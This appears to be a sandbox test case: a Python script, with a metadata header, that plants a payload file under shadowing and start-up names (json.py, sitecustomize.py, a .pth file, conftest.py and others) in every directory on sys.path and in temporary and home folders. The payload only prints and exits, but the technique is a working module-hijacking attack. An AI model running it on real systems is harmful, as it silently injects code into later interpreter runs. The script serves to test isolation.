# /// case
# attack = "Leaves modules that shadow the library's, and start-up files, wherever an interpreter could look."
# passes = true
# statuses = ["exited"]
# ///
import os, site, sys
poison = "print('poisoned')\nimport os\nos._exit(0)\n"
names = ("json.py", "random.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "note.pth", "main.py")
for place in {"", ".", "/tmp", os.path.expanduser("~"), site.getusersitepackages(), "/dev/shm", *sys.path}:
    try:
        os.makedirs(place or ".", exist_ok=True)
    except OSError:
        continue
    for name in names:
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write(poison)
        except OSError:
            pass
print(42)
